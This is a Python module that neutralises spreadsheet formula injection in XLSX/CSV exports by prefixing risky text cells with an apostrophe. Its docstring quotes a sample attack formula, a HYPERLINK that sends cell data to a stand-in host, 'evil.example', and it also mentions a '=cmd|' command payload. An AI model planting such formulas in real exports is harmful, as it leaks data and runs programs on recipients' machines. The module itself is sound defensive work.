"""Cells written to an exported XLSX or CSV file: text that a spreadsheet would run stays text.

A cell whose text begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return ahead of
one) is taken by Excel and LibreOffice as a formula: an enterprise named
``=HYPERLINK("http://evil.example/?x="&A1,"点击查看")`` would become a live link leaking the
sheet, and in a CSV ``=cmd|…`` can run a program (OWASP "CSV injection"). Such text gets a
leading apostrophe, the spreadsheets' own mark for "this is text". Numbers stay numbers, and
text that is only a signed number ("-3.5", "+6%") is left alone: it can hold no formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d[\d,]*(\.\d+)?%?")


def neutralise(value: Any) -> Any:
    """``value`` with an apostrophe ahead if it is text a spreadsheet would take as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralised(values: Iterable[Any]) -> list[Any]:
    """One exported row, each cell through ``neutralise``."""
    return [neutralise(v) for v in values]
